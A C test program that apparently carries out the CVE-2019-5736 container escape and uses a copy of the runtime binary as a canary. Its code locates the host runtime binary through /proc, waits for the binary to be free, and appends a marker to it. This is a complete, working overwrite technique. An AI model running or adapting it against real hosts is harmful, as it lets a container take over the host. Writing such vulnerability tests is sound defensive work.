/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attack_exe: the CVE-2019-5736 attack, run inside a container.
 *
 *   attack_exe watch FIFO [SECONDS]
 *   attack_exe grab PID [SECONDS]
 *
 * The image ships a script "#!/proc/self/exe --log=FIFO". When the runtime execs that
 * script in the container (`exec`), the kernel resolves /proc/self/exe in the runtime's
 * own process: the runtime binary runs again, now as a container process, and blocks
 * opening its log FIFO. Meanwhile this program (the container's process) waits for a
 * process that runs a binary other than its own, takes an fd of that binary through
 * /proc/PID/exe, releases the FIFO, and once the binary is no longer being executed
 * (ETXTBSY gone) reopens it through /proc/self/fd/N for writing and appends a marker.
 * On a vulnerable runtime the marker lands in the host's runtime binary - the tests run
 * a copy of the binary, so that is their canary.
 *
 * Output, one key=value per line: grabbed=0|1, exe_target=, busy_errno= (the first
 * write attempt while the binary ran), write_open=ok|ERRNAME, wrote=N, done=1.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MARKER "\nWARD-ATTACK-5736-MARKER\n"

static const char *errname(int e)
{
	const char *n = strerrorname_np(e);
	return n ? n : "unknown";
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void nap(void)
{
	struct timespec ts = {0, 200000}; /* 0.2 ms */
	nanosleep(&ts, NULL);
}

/* A process other than us that runs a binary other than ours: its pid, or 0. */
static int find_foreign(const struct stat *self)
{
	DIR *d = opendir("/proc");
	if (!d)
		return 0;
	struct dirent *de;
	int found = 0;
	while (!found && (de = readdir(d))) {
		int pid = atoi(de->d_name);
		if (pid <= 0 || pid == getpid())
			continue;
		char p[64];
		struct stat st;
		snprintf(p, sizeof(p), "/proc/%d/exe", pid);
		if (stat(p, &st) < 0)
			continue;
		if (st.st_dev == self->st_dev && st.st_ino == self->st_ino)
			continue;
		found = pid;
	}
	closedir(d);
	return found;
}

/* Reopens the binary behind fdpath for writing until nobody executes it any more (or time
 * is up) and appends the marker. */
static void try_write(const char *fdpath, double end)
{
	int w = -1, err = ETXTBSY;
	while (now() < end) {
		w = open(fdpath, O_WRONLY | O_APPEND);
		if (w >= 0) {
			err = 0;
			break;
		}
		err = errno;
		if (err != ETXTBSY)
			break;
		nap();
	}
	if (w < 0) {
		printf("write_open=%s\n", errname(err));
		return;
	}
	ssize_t k = write(w, MARKER, sizeof(MARKER) - 1);
	printf("write_open=ok\nwrote=%zd\n", k);
	if (k < 0)
		printf("write_errno=%s\n", errname(errno));
	close(w);
}

static int watch(const char *fifo, int seconds)
{
	if (mkfifo(fifo, 0666) < 0 && errno != EEXIST) {
		printf("error=mkfifo:%s\n", errname(errno));
		return 1;
	}
	struct stat self;
	if (stat("/proc/self/exe", &self) < 0) {
		printf("error=stat-self:%s\n", errname(errno));
		return 1;
	}
	printf("ready=1\n");
	fflush(stdout);

	double end = now() + seconds;
	int pid = 0, fd = -1;
	while (now() < end) {
		pid = find_foreign(&self);
		if (pid > 0) {
			char p[64];
			snprintf(p, sizeof(p), "/proc/%d/exe", pid);
			fd = open(p, O_PATH);
			if (fd >= 0)
				break;
		}
		nap();
	}
	if (fd < 0) {
		printf("grabbed=0\ndone=1\n");
		return 0;
	}
	char target[4096];
	char fdpath[64];
	snprintf(fdpath, sizeof(fdpath), "/proc/self/fd/%d", fd);
	ssize_t n = readlink(fdpath, target, sizeof(target) - 1);
	target[n < 0 ? 0 : n] = '\0';
	printf("grabbed=1\npid=%d\nexe_target=%s\n", pid, target);

	/* While the binary runs the kernel refuses writers (ETXTBSY). */
	int w = open(fdpath, O_WRONLY | O_APPEND);
	printf("busy_errno=%s\n", w < 0 ? errname(errno) : "none");
	if (w >= 0)
		close(w);
	fflush(stdout);

	/* Let the runtime go on: it waits for a reader of its log. */
	int r = open(fifo, O_RDONLY | O_NONBLOCK);
	if (r >= 0) {
		char buf[4096];
		double stop = now() + 5;
		while (now() < stop) {
			ssize_t k = read(r, buf, sizeof(buf));
			if (k == 0 && access(fdpath, F_OK) == 0) {
				char pp[64];
				snprintf(pp, sizeof(pp), "/proc/%d", pid);
				if (access(pp, F_OK) < 0)
					break;
			}
			nap();
		}
		close(r);
	}

	try_write(fdpath, end);
	printf("done=1\n");
	return 0;
}

/* Takes /proc/PID/exe of a given process (e.g. pid 1 of a created container, still the
 * runtime's init), then waits for the binary to be free and tries to write it. */
static int grab(int pid, int seconds)
{
	double end = now() + seconds;
	char p[64], fdpath[64], target[4096];
	snprintf(p, sizeof(p), "/proc/%d/exe", pid);
	ssize_t n = readlink(p, target, sizeof(target) - 1);
	target[n < 0 ? 0 : n] = '\0';
	printf("exe_link=%s\n", n < 0 ? errname(errno) : target);
	int fd = open(p, O_PATH);
	if (fd < 0) {
		printf("grabbed=0\ngrab_errno=%s\ndone=1\n", errname(errno));
		return 0;
	}
	printf("grabbed=1\n");
	fflush(stdout);
	snprintf(fdpath, sizeof(fdpath), "/proc/self/fd/%d", fd);
	try_write(fdpath, end);
	printf("done=1\n");
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc >= 3 && strcmp(argv[1], "watch") == 0)
		return watch(argv[2], argc > 3 ? atoi(argv[3]) : 30);
	if (argc >= 3 && strcmp(argv[1], "grab") == 0)
		return grab(atoi(argv[2]), argc > 3 ? atoi(argv[3]) : 30);
	fprintf(stderr, "usage: attack_exe watch FIFO [SECONDS] | grab PID [SECONDS]\n");
	return 2;
}
